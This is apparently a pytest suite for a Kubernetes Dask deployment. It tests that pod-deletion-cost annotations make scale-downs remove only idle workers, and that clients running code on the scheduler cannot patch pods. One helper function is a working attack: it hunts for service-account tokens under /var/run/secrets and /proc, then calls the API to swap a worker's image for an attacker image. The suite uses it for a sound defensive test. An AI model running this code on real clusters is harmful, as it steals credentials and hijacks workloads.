"""Scale-down that loses and restarts nothing (issue 22, item 4): the scheduler pod's sidecar keeps each worker
pod's `controller.kubernetes.io/pod-deletion-cost` at the tasks running on it, so scaling a group down to the
number of busy pods removes the idle ones; the study's tasks each run once (`attempt` 1). And the token that
may patch pods is out of reach of the code clients run on the scheduler."""

from __future__ import annotations

import json
import subprocess
import time

import pytest
from cluster_support import MOPS, SCHEDULER, load_results

ANNOTATION = "controller.kubernetes.io/pod-deletion-cost"
TASK_SECONDS = 60
BUSY = 2  # tasks of the study, one per pod (nthreads 1): pods busy while it runs
PODS = 3
SETS = [f"worker.replicas={PODS}", "worker.nthreads=1", "worker.replicasOwner=cluster",
        "scheduler.podDeletionCost=enabled"]


@pytest.fixture(scope="module")
def release(releases):
    rel = releases.new("helm4")
    rel.install(["warm.yaml", "local.yaml"], sets=SETS)
    (scheduler,) = [p["metadata"]["name"] for p in rel.pods(SCHEDULER)]
    rel.wait_for_log(scheduler, "Pod deletion cost: keeping", container="deletion-cost")
    yield rel
    rel.uninstall()


def costs(rel) -> dict[str, int]:
    """Running worker pod -> its deletion cost (0 without the annotation)."""
    return {p["metadata"]["name"]: int((p["metadata"].get("annotations") or {}).get(ANNOTATION, 0))
            for p in rel.pods()}


def test_scale_down_to_the_busy_pods_removes_the_idle_ones_and_restarts_nothing(release, tmp_path):
    pods_before = {p["metadata"]["name"]: p["status"]["podIP"] for p in release.pods()}
    assert len(pods_before) == PODS
    study = tmp_path / "study.json"
    study.write_text(json.dumps({"name": "scale-down", "bundle": "sleep", "parameters": [{"seconds": TASK_SECONDS}],
                                 "replicates": BUSY, "base_seed": 11}))
    output = tmp_path / "results.jsonl"
    with release.port_forward() as address:
        submitted = time.time()
        client = subprocess.Popen([str(MOPS), "run", str(study), "--scheduler", address, "--output", str(output)],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        # the tasks start (each pod logs its child's PID), then the annotations follow
        deadline = time.monotonic() + 180
        while sum(release.logs(p).count("Child process PID") for p in pods_before) < BUSY:
            assert time.monotonic() < deadline, "the study's tasks did not start"
            time.sleep(0.5)
        started = time.monotonic()
        while sorted(costs(release).values()) != [0] * (PODS - BUSY) + [1] * BUSY:
            assert time.monotonic() - started < 60, f"the costs did not follow the running tasks: {costs(release)}"
            time.sleep(0.25)
        annotated_at = time.time()
        seen = costs(release)
        busy = {pod for pod, cost in seen.items() if cost > 0}
        idle = set(seen) - busy

        release.kubectl("scale", "deployment", f"{release.name}-modelops-dask-worker", f"--replicas={BUSY}")
        scaled = time.monotonic()
        deadline = time.monotonic() + 120
        while {p["metadata"]["name"] for p in release.pods()} != busy:
            assert time.monotonic() < deadline, f"after the scale-down: {costs(release)}, busy were {busy}"
            time.sleep(0.5)
        scale_down_s = time.monotonic() - scaled
        out, err = client.communicate(timeout=300)
    assert client.returncode == 0, f"mops run failed:\n{out[-3000:]}\n{err[-3000:]}"
    assert idle and not idle & {p["metadata"]["name"] for p in release.items("pods")}, "an idle pod is still there"

    results = load_results(output.read_text())
    assert len(results) == BUSY and len({r["task_id"] for r in results}) == BUSY
    assert all(r["status"] == "ok" for r in results), [r["error"] for r in results if r["status"] != "ok"]
    attempts = [r["provenance"]["attempt"] for r in results]
    assert attempts == [1] * BUSY, f"tasks started twice during the scale-down: {attempts}"
    ran_on = {r["provenance"]["worker"].split("://", 1)[-1].rsplit(":", 1)[0] for r in results}
    assert ran_on == {pods_before[p] for p in busy}
    last_start = max(r["provenance"]["started"] for r in results)
    print(f"\nscale-down {PODS} -> {BUSY} pods with {BUSY} tasks of {TASK_SECONDS} s running: the idle pod(s) "
          f"{sorted(idle)} went ({scale_down_s:.1f} s after kubectl scale); annotations showed the running tasks "
          f"{annotated_at - submitted:.1f} s after the submit, {annotated_at - last_start:+.1f} s after the last task "
          f"started (first seen by a poll every 0.25 s); tasks started twice: {sum(a > 1 for a in attempts)}")


def test_a_failing_api_is_logged_once_and_studies_still_run(release, tmp_path):
    """Without the Role's binding every patch is refused (403): the sidecar says so once; studies run on."""
    release.kubectl("delete", "rolebinding", f"{release.name}-modelops-dask-scheduler")
    study = tmp_path / "study.json"
    study.write_text(json.dumps({"name": "no-rbac", "bundle": "sleep", "parameters": [{"seconds": 3}],
                                 "replicates": 6, "base_seed": 5}))
    output = tmp_path / "results.jsonl"
    with release.port_forward() as address:
        proc = subprocess.run([str(MOPS), "run", str(study), "--scheduler", address, "--output", str(output)],
                              capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert len(load_results(output.read_text())) == 6
    (scheduler,) = [p["metadata"]["name"] for p in release.pods(SCHEDULER)]
    log = release.wait_for_log(scheduler, "Pod deletion cost: the Kubernetes API failed", timeout=90,
                               container="deletion-cost")
    failures = [line for line in log.splitlines() if "Pod deletion cost: the Kubernetes API failed" in line]
    assert len(failures) == 1, failures
    assert "403" in failures[0] and "forbidden" in failures[0], failures[0]
    print(f"\n{failures[0]}")


def _patch_a_pod_from_the_scheduler(namespace: str, pod: str, image: str) -> dict:
    """Runs in the scheduler process (a client's `run_on_scheduler`): what an attacker with client access tries.
    Finds a Kubernetes credential wherever the scheduler container can read one, then patches a worker pod's
    image with it (or with none). Standard library only: the test pickles it by value."""
    import glob
    import json
    import os
    import ssl
    import urllib.error
    import urllib.request

    tokens = [p for p in glob.glob("/var/run/secrets/**/token", recursive=True) if os.path.isfile(p)]
    tokens += [p for p in glob.glob("/proc/[0-9]*/root/var/run/secrets/**/token", recursive=True)
               if os.access(p, os.R_OK)]
    found = {"tokens": sorted(set(tokens)), "pids": sorted(int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*"))}
    host, port = os.environ.get("KUBERNETES_SERVICE_HOST"), os.environ.get("KUBERNETES_SERVICE_PORT", "443")
    headers = {"Content-Type": "application/strategic-merge-patch+json"}
    if tokens:
        headers["Authorization"] = "Bearer " + open(tokens[0]).read().strip()
    body = json.dumps({"spec": {"containers": [{"name": "worker", "image": image}]}}).encode()
    url = f"https://{host}:{port}/api/v1/namespaces/{namespace}/pods/{pod}"
    request = urllib.request.Request(url, data=body, method="PATCH", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10, context=ssl._create_unverified_context()) as reply:
            found["status"] = reply.status
    except urllib.error.HTTPError as exc:
        found["status"] = exc.code
    except OSError as exc:
        found["status"] = f"{type(exc).__name__}: {exc}"
    return found


def test_a_client_running_code_on_the_scheduler_cannot_patch_pods(release):
    """The attack the sidecar stops: a Dask client may run any function on the scheduler (`run_on_scheduler`).
    With the pod-patching token in the scheduler's container, it could change a worker pod's image (run any
    code with the workers' access). The token is mounted only in the deletion-cost sidecar, which runs no
    Dask code and listens on no port: the scheduler's process finds no credential and its patch is refused."""
    import sys

    import cloudpickle
    from distributed import Client

    cloudpickle.register_pickle_by_value(sys.modules[__name__])  # the scheduler cannot import this test module
    pod = release.pods()[0]
    name, image = pod["metadata"]["name"], pod["spec"]["containers"][0]["image"]
    attacker_image = "registry.invalid/attacker:latest"
    with release.port_forward() as address, Client(address, timeout=60) as client:
        try:
            found = client.run_on_scheduler(_patch_a_pod_from_the_scheduler, release.namespace, name, attacker_image)
        finally:
            cloudpickle.unregister_pickle_by_value(sys.modules[__name__])
    after = json.loads(release.kubectl("get", "pod", name, "-o", "json"))["spec"]["containers"][0]["image"]
    assert after == image, f"the scheduler's process changed {name}'s image to {after}: {found}"
    assert found["tokens"] == [], f"the scheduler's process can read a Kubernetes token: {found}"
    assert found["status"] in (401, 403), f"the API server answered the scheduler's patch with {found['status']}"
    print(f"\nscheduler process: no token readable; its patch of {name} answered {found['status']}")
